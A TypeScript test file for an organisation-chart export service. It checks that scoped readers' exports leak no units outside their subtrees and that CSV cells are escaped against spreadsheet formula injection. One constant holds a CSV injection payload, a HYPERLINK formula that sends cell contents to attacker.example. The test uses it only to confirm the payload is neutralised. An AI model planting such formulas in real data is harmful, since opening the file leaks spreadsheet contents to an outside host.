/**
 * What an export must not let out: a scoped reader's export names no unit outside its subtrees
 * (not even as a relation's `via`), and a CSV cell never starts with a character that makes
 * Excel or LibreOffice run it as a formula ("=HYPERLINK(…)", "+…", "-…", "@…").
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { closeSandbox, create, gqlAs, openSandbox, TEST_SECRET, token } from "./helpers/sandbox.ts";
import { startTestServer, type TestServer } from "./helpers/test-server.ts";

const P = "xe-";
const ids = {
  tinh: `${P}tinh`,
  huyen: `${P}huyen`,
  xa: `${P}xa`,
  hosted: `${P}hosted`,
  khac: `${P}khac`,
  khacHuyen: `${P}khac-huyen`,
};
const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Mở")';

let server: TestServer;
let scoped: TestServer;
let admin: string;
let reader: string;

beforeAll(async () => {
  ({ server, admin } = await openSandbox());
  scoped = await startTestServer({ JWT_SECRET: TEST_SECRET, READ_ACCESS: "scoped" });
  await create(server, admin, { id: ids.tinh, kind: "PROVINCIAL_COMMITTEE" }, "bch-trung-uong");
  await create(server, admin, { id: ids.huyen, kind: "DISTRICT_COMMITTEE" }, ids.tinh);
  await create(server, admin, { id: ids.xa, kind: "COMMUNE_COMMITTEE", name: FORMULA }, ids.huyen);
  await create(server, admin, { id: ids.khac, kind: "PROVINCIAL_COMMITTEE" }, "bch-trung-uong");
  await create(server, admin, { id: ids.khacHuyen, kind: "DISTRICT_COMMITTEE" }, ids.khac);
  // A unit inside `tinh` hosted by a unit of the other province.
  await create(server, admin, { id: ids.hosted, kind: "COMMUNE_COMMITTEE", host: ids.khacHuyen }, ids.huyen);
  // A relation inside `tinh` that goes through a unit of the other province.
  const added = await gqlAs(
    server,
    admin,
    `mutation ($a: ID!, $b: ID!, $via: [ID!]) { addRelation(input: { type: REPORTS_TO, fromId: $a, toId: $b, via: $via, validFrom: "2024-01-01", basis: ["dieu-le-dang-whole"] }) { id } }`,
    { a: ids.huyen, b: ids.tinh, via: [ids.khacHuyen] },
  );
  expect(added.errors).toBeUndefined();
  reader = await token("viewer", [ids.tinh], "viewer-xe");
});

afterAll(async () => {
  await scoped?.close();
  await closeSandbox(server, P);
});

const get = (s: TestServer, path: string, bearer: string) =>
  fetch(`${s.base}${path}`, { headers: { authorization: `Bearer ${bearer}` } });

describe("a scoped reader's export", () => {
  // Each path with a unit it must hold: the hosted unit where units are listed, else the relation's source.
  for (const [path, held] of [
    ["/export/_all.json", ids.hosted],
    ["/export/_all.graphml", ids.hosted],
    [`/export/${ids.tinh}.json`, ids.hosted],
    [`/export/${ids.tinh}.graphml`, ids.hosted],
    [`/export/${ids.tinh}.csv?part=nodes`, ids.hosted],
    [`/export/${ids.tinh}.csv?part=edges`, `,${ids.huyen},`],
  ] as const)
    it(`${path} keeps its units and relations but not the outside unit they name`, async () => {
      const res = await get(scoped, path, reader);
      expect(res.status).toBe(200);
      const body = await res.text();
      expect(body).toContain(held);
      expect(body).not.toContain(ids.khacHuyen);
      expect(body).not.toContain(ids.khac);
    });

  it("an unscoped export still names the unit the relation goes through and the host", async () => {
    const res = await get(server, `/export/${ids.tinh}.json`, admin);
    const body = (await res.json()) as {
      nodes: { id: string; host: string | null }[];
      edges: { source: string; via: string }[];
    };
    expect(body.edges.find((e) => e.source === ids.huyen && e.via !== "")?.via).toBe(ids.khacHuyen);
    expect(body.nodes.find((n) => n.id === ids.hosted)?.host).toBe(ids.khacHuyen);
  });
});

describe("CSV formula injection", () => {
  it("a name that starts with = is written as text, not as a formula", async () => {
    const res = await get(server, `/export/${ids.tinh}.csv?part=nodes`, admin);
    const line = (await res.text()).split("\r\n").find((l) => l.startsWith(`${ids.xa},`)) as string;
    const label = line.slice(ids.xa.length + 1);
    expect(label.startsWith("\"'=HYPERLINK(")).toBe(true);
  });
});
